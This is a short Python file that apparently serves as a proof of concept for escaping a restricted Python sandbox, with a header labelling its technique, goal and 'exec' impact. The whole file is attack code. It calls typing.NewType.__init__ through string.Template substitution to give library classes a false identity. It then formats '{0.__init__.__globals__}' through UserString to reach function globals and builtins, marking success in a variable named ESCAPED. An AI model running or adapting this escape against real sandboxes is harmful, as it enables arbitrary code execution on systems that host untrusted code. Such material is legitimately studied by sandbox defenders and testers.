# technique: a library class is renamed before the module is imported that has it, so that the false name is kept
# source: own
# goal: str.format of UserString, which reads attributes
# impact: exec
import functools
import string
import typing


class Rename:
    """As a template's mapping: so the caller that NewType sees is the module string."""

    def __init__(self, cls):
        self.call = functools.partial(typing.NewType.__init__, cls, 'Formatter')

    def __getitem__(self, key):
        self.call(int)
        return ''


def user_string():
    # The class is there before collections was ever imported by the guest.
    for base in (typing.Counter, typing.ChainMap, typing.OrderedDict, typing.Deque):
        origin = typing.get_origin(base)
        try:
            string.Template('$a').substitute(Rename(origin))
        except (AttributeError, TypeError):
            pass
    import collections
    for name in ('UserString', 'Counter', 'ChainMap', 'OrderedDict'):
        cls = getattr(collections, name)
        try:
            string.Template('$a').substitute(Rename(cls))
        except (AttributeError, TypeError):
            pass
    return collections.UserString


text = user_string()('{0.__init__.__globals__}')
for read in (lambda: text.format(functools.partial), lambda: text.format_map({'0': user_string}), lambda: text.format(user_string)):
    try:
        found = read()
    except (AttributeError, TypeError, ValueError, KeyError):
        continue
    if 'builtins' in found:
        ESCAPED = found
